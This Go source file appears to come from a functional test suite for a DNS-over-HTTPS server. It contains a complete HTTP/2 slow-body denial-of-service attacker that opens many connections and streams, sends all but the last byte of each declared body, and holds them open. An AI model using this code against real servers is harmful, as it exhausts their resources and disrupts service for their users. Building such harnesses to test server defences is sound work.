package functional

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strconv"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An HTTP/2 attacker speaking frames itself (golang.org/x/net/http2's
// Framer), so that no client library keeps it to the server's stream
// limit or paces it: it opens as many streams as it is told, and sends
// every byte that the server's flow-control windows allow.

// dohSlowBodies opens s.Conns HTTP/2 connections over TLS to s.Target,
// s.Streams POST streams on each, each declaring a body of s.Size bytes
// and sending all of it but its last byte. It is in place once no
// connection can send more, and holds what it sent until ctx ends.
func dohSlowBodies(ctx context.Context, s hostileSpec, ready func(int64)) error {
	var placed sync.WaitGroup
	var opened, reset, answered atomic.Int64
	var firstErr atomic.Value
	var conns []*h2Attacker
	var mu sync.Mutex
	sem := make(chan struct{}, 16)
	for range s.Conns {
		placed.Add(1)
		sem <- struct{}{}
		go func() {
			defer func() { <-sem }()
			a, err := dialH2(ctx, s.Target)
			if err != nil {
				firstErr.CompareAndSwap(nil, err)
				placed.Done()
				return
			}
			mu.Lock()
			conns = append(conns, a)
			mu.Unlock()
			go a.read()
			n := a.open(s.Target, s.Streams, s.Size)
			opened.Add(int64(n))
			go a.send(ctx, placed.Done)
		}()
	}
	placed.Wait()
	defer func() {
		mu.Lock()
		defer mu.Unlock()
		for _, a := range conns {
			a.conn.Close()
			reset.Add(a.reset.Load())
			answered.Add(a.answered.Load())
		}
		fmt.Printf("hostile note: %d streams sent, %d reset by the server, %d answered\n",
			opened.Load(), reset.Load(), answered.Load())
	}()
	if opened.Load() == 0 {
		if err, _ := firstErr.Load().(error); err != nil {
			return err
		}
		return errors.New("no stream opened")
	}
	ready(opened.Load())
	<-ctx.Done()
	return nil
}

// h2Attacker is one HTTP/2 connection of the attack: the frames it has
// yet to send and the windows the server gave it.
type h2Attacker struct {
	conn net.Conn
	fr   *http2.Framer
	wmu  sync.Mutex // the framer's writes

	mu      sync.Mutex
	cond    *sync.Cond
	closed  bool
	connWin int64
	initWin int64             // a new stream's window, from the server's SETTINGS
	streams map[uint32]*int64 // each open stream's window...
	left    map[uint32]int    // ...and the bytes it has yet to send

	reset, answered atomic.Int64
}

func dialH2(ctx context.Context, addr string) (*h2Attacker, error) {
	d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	if p := c.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
		c.Close()
		return nil, fmt.Errorf("ALPN %q, want h2", p)
	}
	a := &h2Attacker{conn: c, fr: http2.NewFramer(c, c), connWin: 65535, initWin: 65535,
		streams: map[uint32]*int64{}, left: map[uint32]int{}}
	a.cond = sync.NewCond(&a.mu)
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		c.Close()
		return nil, err
	}
	if err := a.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, err
	}
	return a, nil
}

// open sends the HEADERS of n POST streams declaring size bytes; it
// returns how many it sent.
func (a *h2Attacker) open(authority string, n, size int) int {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	a.wmu.Lock()
	defer a.wmu.Unlock()
	for i := range n {
		block.Reset()
		for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", authority},
			{":path", "/dns-query"}, {"content-type", "application/dns-message"},
			{"content-length", strconv.Itoa(size)}} {
			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		id := uint32(2*i + 1)
		a.mu.Lock()
		win := a.initWin
		a.streams[id], a.left[id] = &win, size-1
		a.mu.Unlock()
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}); err != nil {
			return i
		}
	}
	return n
}

// send writes DATA as the windows allow, calls placed once it can send
// no more, and goes on sending what the server lets it until ctx ends.
func (a *h2Attacker) send(ctx context.Context, placed func()) {
	var once sync.Once
	defer once.Do(placed)
	stop := context.AfterFunc(ctx, func() { a.mu.Lock(); a.closed = true; a.cond.Broadcast(); a.mu.Unlock() })
	defer stop()
	zeros := make([]byte, 16<<10)
	for {
		a.mu.Lock()
		id, n := a.next(len(zeros))
		for n == 0 && !a.closed {
			once.Do(placed)
			a.cond.Wait()
			id, n = a.next(len(zeros))
		}
		closed := a.closed
		a.mu.Unlock()
		if closed {
			return
		}
		a.wmu.Lock()
		err := a.fr.WriteData(id, false, zeros[:n])
		a.wmu.Unlock()
		if err != nil {
			return
		}
	}
}

// next picks a stream with bytes to send and window for them, takes n
// bytes of both windows, and returns them (0: none can send).
func (a *h2Attacker) next(most int) (uint32, int) {
	for id, left := range a.left {
		win := a.streams[id]
		n := min(int64(left), *win, a.connWin, int64(most))
		if n > 0 {
			*win -= n
			a.connWin -= n
			a.left[id] -= int(n)
			return id, int(n)
		}
	}
	return 0, 0
}

// read follows the server's frames: windows, settings, resets, answers.
func (a *h2Attacker) read() {
	defer func() { a.mu.Lock(); a.closed = true; a.cond.Broadcast(); a.mu.Unlock() }()
	for {
		f, err := a.fr.ReadFrame()
		if err != nil {
			return
		}
		a.mu.Lock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				f.ForeachSetting(func(s http2.Setting) error {
					if s.ID == http2.SettingInitialWindowSize {
						for _, w := range a.streams {
							*w += int64(s.Val) - a.initWin
						}
						a.initWin = int64(s.Val)
					}
					return nil
				})
				go a.write(func() error { return a.fr.WriteSettingsAck() })
			}
		case *http2.WindowUpdateFrame:
			if w, ok := a.streams[f.StreamID]; ok {
				*w += int64(f.Increment)
			} else if f.StreamID == 0 {
				a.connWin += int64(f.Increment)
			}
		case *http2.RSTStreamFrame:
			a.forget(f.StreamID)
			a.reset.Add(1)
		case *http2.HeadersFrame:
			a.forget(f.StreamID)
			a.answered.Add(1)
		case *http2.PingFrame:
			if !f.IsAck() {
				data := f.Data
				go a.write(func() error { return a.fr.WritePing(true, data) })
			}
		}
		a.cond.Broadcast()
		a.mu.Unlock()
	}
}

func (a *h2Attacker) forget(id uint32) {
	delete(a.streams, id)
	delete(a.left, id)
}

func (a *h2Attacker) write(frame func() error) {
	a.wmu.Lock()
	defer a.wmu.Unlock()
	frame()
}
